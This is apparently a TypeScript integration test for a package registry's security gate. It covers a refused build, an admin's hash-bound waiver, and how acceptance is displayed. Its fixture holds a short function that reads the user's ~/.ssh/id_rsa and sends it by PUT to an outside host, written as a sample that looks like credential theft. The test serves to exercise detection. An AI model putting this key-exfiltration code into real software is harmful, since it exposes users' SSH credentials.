/**
 * A benign build that is refused, from appeal to acceptance: a registry that `init` made, the gate, an admin's waiver, and what
 * publisher, admin and user see of it. `gate-waivers.test.ts` has what a waiver must be.
 */
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { packTarball } from '../../format/archive/tarball.ts';
import { GateVerdict } from '../../format/registry/gate-verdict.ts';
import { serveFolder, stackyard } from '../client/registry-fixture.ts';
import { GitFixture, temporaryFolder, type Files } from '../generate/git-fixture.ts';
import { runCommand } from '../run/generator-command.ts';
import { ALICE, GateFixture, ROOT, build, codes, ownerFile } from './gate-fixture.ts';

const ID = 'alice/key-backup';
const FILE = 'src/backup.js';
const REPOSITORY = 'https://code.example/acme/registry';
/** A user of this program asks for what looks like theft: it copies keys to the vault of its vendor. */
const CODE = [
  "import { readFileSync } from 'node:fs';",
  "import { homedir } from 'node:os';",
  '/** Stores the SSH key of the user in the vault. */',
  'export async function backUp() {',
  "  const key = readFileSync(homedir() + '/.ssh/id_rsa', 'utf8');",
  "  await fetch('https://vault.host-of-nobody.io/keys', { method: 'PUT', body: key });",
  '}',
  '',
].join('\n');
const REASON = 'It backs up keys when its user asks for that';

const version = (number: string, code = CODE, more: Files = {}): Files => ({
  ...build(ID, number, {}, { [FILE]: code, ...more }),
  'builds/alice/owner.json': ownerFile(ALICE.id),
});
async function registry(): Promise<GateFixture> {
  const folder = join(temporaryFolder(), 'registry');
  const text = new TextEncoder().encode('{ "name": "thing", "version": "1.0.0" }\n');
  const software = join(temporaryFolder(), 'thing-1.0.0.tgz');
  const packed = packTarball([{ path: 'package.json', bytes: text, executable: false }]);
  writeFileSync(software, packed);
  const about = ['--admin', `${ROOT.login}:${ROOT.id}`, '--repository', REPOSITORY];
  const made = await runCommand('init', [folder, ...about, '--software', software]);
  expect([made.status, made.stderr]).toEqual([0, '']);
  return new GateFixture({}, new GitFixture(folder));
}

it('is refused with the reason and the form, accepted by an admin, and shown as accepted', async () => {
  const fixture = await registry();
  const { git } = fixture;

  const run = async (head: string, ...more: string[]): ReturnType<typeof runCommand> => {
    const sides = ['--repo', git.folder, '--base', 'main', '--head', head];
    const author = ['--author', ALICE.login, '--author-id', String(ALICE.id)];
    return runCommand('gate', [...sides, ...author, ...more]);
  };
  const gate = async (head: string): Promise<GateVerdict> =>
    GateVerdict.parse(JSON.parse((await run(head, '--json')).stdout));

  // Refused. The comment states why, and links a form that the repository has.
  const head = fixture.pull(version('1.0.0'));
  const refused = await gate(head);
  expect(refused.verdict).toBe('refuse');
  expect(codes(refused)).toEqual(expect.arrayContaining(['gate-danger']));
  const [judged] = refused.builds;
  const { status, stdout: markdown } = await run(head, '--markdown');
  expect(status).toBe(1);
  const form = `${REPOSITORY}/issues/new?template=appeal.yml`;
  const why = ['credential-theft', 'src/backup', form];
  for (const part of why) expect(markdown).toContain(part);
  const template = readFileSync(join(git.folder, '.github/ISSUE_TEMPLATE/appeal.yml'), 'utf8');
  expect(template).toContain('name: Appeal');

  // The admin reads the appeal and accepts; what the docs name is enough.
  const errors = judged!.findings.filter(({ level, file }) => level === 'error' && file === FILE);
  const sha256 = createHash('sha256').update(CODE).digest('hex');
  const waivers = [...new Set(errors.map(({ code }) => code))].map((code) => {
    const by = ROOT.login;
    return { version: '1.0.0', code, file: FILE, sha256, reason: REASON, by, at: '2026-02-28' };
  });
  const path = `moderation/${ID}.json`;
  const answer = await fixture.propose({ [path]: JSON.stringify({ waivers }) }, ROOT);
  expect([answer.verdict, codes(answer)]).toEqual(['merge', []]);
  fixture.land(answer);

  // The same pull request is not refused any more.
  const passed = await gate(head);
  expect([passed.verdict, passed.builds[0]?.risk]).not.toEqual(['refuse', 'danger']);
  expect(codes(passed)).not.toContain('gate-danger');
  const accepted = `accepted by ${ROOT.login} on 2026-02-28: ${REASON}`;
  expect((await run(head, '--markdown')).stdout).toContain(`accepted by ${ROOT.login}`);
  expect(JSON.stringify(passed)).toContain(accepted);
  fixture.land(passed);

  // Page, record and client.
  const out = join(temporaryFolder(), 'index');
  const generate = async (): Promise<string> => {
    const made = await runCommand('generate', ['--repo', git.folder, '--out', out]);
    expect([made.status, made.stderr]).toEqual([0, expect.not.stringContaining('error')]);
    return serveFolder(out);
  };
  const info = async (url: string, number: string): Promise<string> =>
    (await stackyard(['info', `${ID}@${number}`, '--registry', url])).stdout;
  const url = await generate();
  const page = await (await fetch(`${url}/builds/${ID}/index.html`)).text();
  expect(page).toContain(`Accepted by ${ROOT.login}`);
  expect(page).toContain(REASON);
  expect(await info(url, '1.0.0')).toContain(accepted);

  // The next version with the same file holds, one with another does not.
  const next = await gate(fixture.pull(version('1.1.0', CODE, { 'src/a.js': 'export {};\n' })));
  expect(codes(next)).not.toContain('gate-danger');
  fixture.land(next);
  const changed = await gate(fixture.pull(version('1.2.0', `${CODE}// More\n`)));
  expect(changed.verdict).toBe('refuse');
  expect(codes(changed)).toEqual(expect.arrayContaining(['gate-danger', 'gate-waiver-stale']));
  expect(await info(await generate(), '1.1.0')).toContain(accepted);
}, 900_000);
